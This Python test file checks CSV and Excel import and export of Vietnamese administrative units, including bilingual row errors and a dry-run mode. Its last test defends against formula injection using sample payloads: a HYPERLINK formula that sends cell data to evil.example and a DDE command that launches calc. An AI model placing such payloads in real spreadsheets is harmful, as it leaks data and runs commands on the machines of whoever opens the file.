"""Units from and to CSV and Excel: the dry run writes nothing, a file with any bad row is
refused whole with a message per row in Vietnamese and English, and exporting then importing
changes nothing."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from core.units import files as unit_io
from core.audit import AuditEvent
from core.demo import load_units
from core.errors import ValidationError
from core.i18n import core_catalog
from core.models import Unit

HEADER = "code,name,kind,parent_code,admin_code,agency_code,valid_from,valid_to\n"


@pytest.fixture
def demo(db_session):
    return load_units()


def snapshot():
    return sorted((u.code, u.name, u.kind, u.parent_id, u.admin_code, u.agency_code, u.valid_from, u.valid_to)
                  for u in Unit.select())


@pytest.mark.parametrize("at", [None, dt.date(2025, 6, 30)])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exporting_then_importing_changes_nothing(demo, fmt, at):
    rows = unit_io.export_rows(at)
    assert rows[0] == list(unit_io.COLUMNS)
    assert len(rows) - 1 == (85 if at is None else 284)
    content = unit_io.to_xlsx(rows) if fmt == "xlsx" else unit_io.to_csv(rows)
    before = snapshot()
    plan = unit_io.parse(content, f"units.{fmt}")
    assert plan.errors == []
    assert plan.counts() == {"create": 0, "update": 0, "unchanged": len(rows) - 1}
    unit_io.apply(plan)
    assert snapshot() == before


def test_the_export_as_at_a_date_carries_the_former_tree_in_iso_dates(demo):
    rows = unit_io.export_rows(dt.date(2025, 6, 30))
    by_code = {r[0]: r for r in rows[1:]}
    assert by_code["QB"][4] == "44" and by_code["QB"][7] == "2025-06-30"
    assert by_code["QB.tp-dong-hoi.p-dong-hai"][3] == "QB.tp-dong-hoi"
    csv_bytes = unit_io.to_csv(rows)
    assert csv_bytes.startswith("\ufeff".encode()) and "Phường Đồng Hải".encode() in csv_bytes


def test_the_dry_run_writes_nothing_and_apply_writes_everything(demo):
    content = (HEADER + "N1,Xã Thử Nghiệm,commune,44,,,01/01/2030,\n"
               "N2,Thôn con,organisation,N1,,,2030-01-01,31/12/2030\n"
               "18880,Phường Đồng Hới,commune,44,18880,,2025-07-01,\n"
               "18859,Phường Đồng Thuận mới,commune,44,18859,,2025-07-01,\n").encode()
    before, events = snapshot(), AuditEvent.select().count()
    plan = unit_io.parse(content, "units.csv")
    assert plan.errors == []
    assert [(r.code, r.action) for r in plan.rows] == [("N1", "create"), ("N2", "create"), ("18880", "unchanged"),
                                                       ("18859", "update")]
    assert plan.rows[3].changed == ["name"]
    assert snapshot() == before and AuditEvent.select().count() == events
    assert unit_io.apply(plan) == {"create": 2, "update": 1, "unchanged": 1}
    n2 = Unit.get(Unit.code == "N2")
    assert n2.parent.code == "N1" and n2.valid_to == dt.date(2030, 12, 31)
    assert Unit.get(Unit.code == "18859").name == "Phường Đồng Thuận mới"
    assert AuditEvent.select().where(AuditEvent.action == "unit.import").count() == 1


BAD_ROWS = [
    ("N1,Xã A,hamlet,44,,,,", 2, "kind", "units.io.error.kind_unknown"),
    ("N2,,commune,44,,,,", 3, "name", "units.io.error.name_missing"),
    ("N3,Xã C,commune,44,,,31/02/2025,", 4, "valid_from", "units.io.error.date_invalid"),
    ("N4,Xã D,commune,44,,,01/07/2025,30/06/2025", 5, "valid_to", "units.io.error.date_order"),
    ("N5,Xã E,commune,KHONGCO,,,,", 6, "parent_code", "units.io.error.parent_unknown"),
    ("N6,Xã F,commune,N7,,,,", 7, "parent_code", "units.io.error.cycle"),
    ("N7,Xã G,commune,N6,,,,", 8, "parent_code", "units.io.error.cycle"),
    ("N1,Xã H,commune,44,,,,", 9, "code", "units.io.error.code_duplicate"),
    ("44,Tỉnh Quảng Trị,province,18880,44,000.00.00.H50,2025-07-01,", 10, "parent_code", "units.io.error.cycle"),
    (",Xã I,commune,44,,,,", 11, "code", "units.io.error.code_missing"),
]


def test_a_bad_file_gets_a_message_per_row_in_both_languages_and_nothing_is_written(demo):
    content = (HEADER + "\n".join(r[0] for r in BAD_ROWS) + "\nOK1,Xã Đúng,commune,44,,,,\n").encode()
    before = snapshot()
    plan = unit_io.parse(content, "bad.csv")
    assert {(e.row, e.column, e.key) for e in plan.errors} == {(r[1], r[2], r[3]) for r in BAD_ROWS}
    catalog = core_catalog()
    for error in plan.errors:
        vi, en = catalog.gettext("vi", error.key, **error.params), catalog.gettext("en", error.key, **error.params)
        assert vi != error.key and en != error.key and vi != en and "{" not in vi + en
    duplicate = next(e for e in plan.errors if e.key == "units.io.error.code_duplicate")
    assert "2" in catalog.gettext("vi", duplicate.key, **duplicate.params)
    with pytest.raises(ValidationError):
        unit_io.apply(plan)
    assert snapshot() == before


@pytest.mark.parametrize("header, keys", [
    ("code,ten,kind\n", {("ten", "units.io.error.column_unknown"), ("name", "units.io.error.column_missing")}),
    ("code,name\n", {("kind", "units.io.error.column_missing")}),
    ("code,name,kind,name\n", {("name", "units.io.error.column_twice")}),
])
def test_wrong_columns_are_named(demo, header, keys):
    plan = unit_io.parse((header + "X,Y,commune\n").encode(), "x.csv")
    assert {(e.column, e.key) for e in plan.errors} == keys and all(e.row == 1 for e in plan.errors)


def test_unreadable_files_are_refused_with_a_message(demo):
    assert unit_io.parse(b"x", "units.pdf").errors[0].key == "units.io.error.file_type"
    assert unit_io.parse(b"\xff\xfe\x00", "units.csv").errors[0].key == "units.io.error.encoding"
    assert unit_io.parse(b"PK not a zip", "units.xlsx").errors[0].key == "units.io.error.unreadable"
    assert unit_io.parse(b"", "units.csv").errors[0].key == "units.io.error.empty"


def test_csv_with_semicolons_a_bom_and_excel_dates_are_read(demo):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(unit_io.COLUMNS))
    sheet.append(["X1", "Xã Excel", "commune", "44", None, None, dt.datetime(2030, 1, 1), None])
    out = io.BytesIO()
    book.save(out)
    plan = unit_io.parse(out.getvalue(), "u.xlsx")
    assert plan.errors == [] and plan.rows[0].values["valid_from"] == dt.date(2030, 1, 1)
    semicolons = ("\ufeffcode;name;kind;parent_code\nX2;Xã Chấm Phẩy;commune;44\n").encode()
    plan = unit_io.parse(semicolons, "u.csv")
    assert plan.errors == [] and plan.rows[0].action == "create"


def test_someone_with_the_right_on_part_of_the_tree_changes_only_that_part(demo):
    dong_hoi = Unit.get(Unit.code == "18880")
    content = (HEADER + "18880,Phường Đồng Hới (sửa),commune,44,18880,,2025-07-01,\n"
               "T1,Tổ dân phố 1,organisation,18880,,,,\n").encode()
    plan = unit_io.parse(content, "u.csv", allowed_ids={dong_hoi.id})
    assert [(e.row, e.key) for e in plan.errors] == [(2, "units.io.error.outside_scope")]
    assert [r.code for r in plan.rows] == ["T1"]


def test_the_cli_exports_and_imports_all_or_nothing(database_url, tmp_path):
    from tests.core.test_cli import run, with_db

    def seed():
        from core.migrate import migrate_core

        migrate_core()
        load_units()

    with_db(database_url, seed)
    env = {"BAOCAO_DATABASE_URL": database_url}
    out = run("units", "export", "--at", "30/06/2025", "-o", "past.csv", cwd=tmp_path, **env)
    assert out.returncode == 0, out.stderr
    assert (tmp_path / "past.csv").read_text(encoding="utf-8-sig").count("\n") == 1 + 284
    again = run("units", "import", "past.csv", cwd=tmp_path, **env)
    assert again.returncode == 0 and "284 không đổi" in again.stdout and "284 unchanged" in again.stdout
    (tmp_path / "bad.csv").write_text(HEADER + "N1,Xã A,commune,44,,,31/02/2025,\n", encoding="utf-8")
    bad = run("units", "import", "bad.csv", cwd=tmp_path, **env)
    assert bad.returncode == 1 and "Dòng 2, cột valid_from" in bad.stderr and "Row 2, column valid_from" in bad.stderr
    assert with_db(database_url, lambda: Unit.select().where(Unit.code == "N1").count()) == 0


# -- formula injection (issue 12, item 10) ---------------------------------------------------------------

# Unit names are stored on one line, so tab and CR (also formula triggers) are in test_export_safety.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=2+5+cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(1+1)"]


def test_hostile_unit_names_go_out_as_text_in_csv_and_xlsx_and_come_back_unchanged(db_session):
    import csv
    import zipfile

    province = Unit.create(code="44", name="Tỉnh Quảng Trị", kind="province")
    for n, name in enumerate(HOSTILE):
        Unit.create(code=f"X{n}", name=name, kind="commune", parent=province)
    before = snapshot()
    rows = unit_io.export_rows()
    # CSV: each hostile name starts with a quote, whatever follows the "=" (a digit included).
    text = unit_io.to_csv(rows).decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(names) == sorted(["Tỉnh Quảng Trị"] + ["'" + name for name in HOSTILE])
    # Excel: no formula anywhere in the sheet; every name is a string cell equal to the name.
    content = unit_io.to_xlsx(rows)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = {row[1].value: row[1] for row in book.active.iter_rows(min_row=2)}
    assert set(cells) == set(HOSTILE) | {"Tỉnh Quảng Trị"}
    assert all(cells[name].data_type == "s" for name in HOSTILE)
    # Read back, both files change nothing.
    for fmt, data in (("csv", unit_io.to_csv(rows)), ("xlsx", content)):
        plan = unit_io.parse(data, f"units.{fmt}")
        assert plan.errors == [] and plan.counts()["unchanged"] == len(HOSTILE) + 1, fmt
    assert snapshot() == before
